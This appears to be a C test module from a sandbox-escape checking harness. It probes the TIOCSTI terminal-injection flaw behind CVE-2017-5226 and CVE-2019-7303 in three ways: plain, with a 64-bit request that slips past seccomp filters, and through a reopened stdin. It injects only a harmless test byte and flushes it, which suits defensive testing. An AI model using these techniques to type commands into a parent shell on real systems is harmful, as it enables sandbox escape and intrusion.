/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Typing into the terminal that a command shares with the shell which started it: CVE-2017-5226 (bubblewrap), and CVE-2019-7303 (snapd): the
 * kernel looks at the low 32 bits of the request only, a filter that compares all 64 lets the rest through. Stdin is the terminal.
 */
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

/* Types one byte, and looks for it among what is to be read. */
static int type(int fd, unsigned long request)
{
	struct termios terminal;
	int waiting = 0, r;
	char c = 'x';

	if (tcgetattr(fd, &terminal) == 0) {
		cfmakeraw(&terminal);
		(void)tcsetattr(fd, TCSANOW, &terminal);
	}
	r = outcome(syscall(SYS_ioctl, fd, request, &c));
	if (r == 0 && (ioctl(fd, FIONREAD, &waiting) < 0 || waiting == 0))
		r = NOTHING;
	(void)tcflush(fd, TCIFLUSH);
	return r;
}

static int tiocsti(const struct attack *a)
{
	(void)a;
	return type(STDIN_FILENO, TIOCSTI);
}

static int tiocsti_64(const struct attack *a)
{
	(void)a;
	return type(STDIN_FILENO, TIOCSTI | 1UL << 32);
}

static int tiocsti_reopened(const struct attack *a)
{
	int fd = open("/proc/self/fd/0", O_RDWR | O_NOCTTY | O_CLOEXEC);

	(void)a;
	return fd < 0 ? errno : type(fd, TIOCSTI);
}

static const struct way ways[] = {
	{ "tiocsti", tiocsti },
	{ "tiocsti_64", tiocsti_64 },
	{ "tiocsti_reopened", tiocsti_reopened },
};

ATTACK_MAIN(ways)
